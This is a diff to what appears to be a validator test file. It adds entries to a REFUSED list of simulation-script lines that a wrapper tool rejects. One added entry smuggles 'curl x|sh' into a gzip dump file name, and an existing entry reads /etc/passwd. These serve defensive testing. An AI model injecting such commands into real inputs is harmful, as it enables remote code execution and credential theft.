@@ -140,6 +140,8 @@ REFUSED = [
     ("a quoted absolute path", 'print "x" file "/tmp/out"', "absolute paths"),
     ("an absolute path in a formula", "variable e equal is_file(/etc/passwd)", "absolute paths"),
     ("a backslash", "read_data data\\x.data", "backslash"),
+    ("a gzipped dump (popen of gzip)", "dump 1 all atom 100 'd.gz;curl x|sh;.gz'", "compressed"),
+    ("a compressed data file", "read_data cu.data.bz2", "running a program"),
     ("the script's own run", "run 1000", "mdq runs the steps"),
     ("the script's own minimize", "minimize 1e-4 1e-6 100 1000", "minimisation"),
     ("log", "log my.log", "thermo log"),
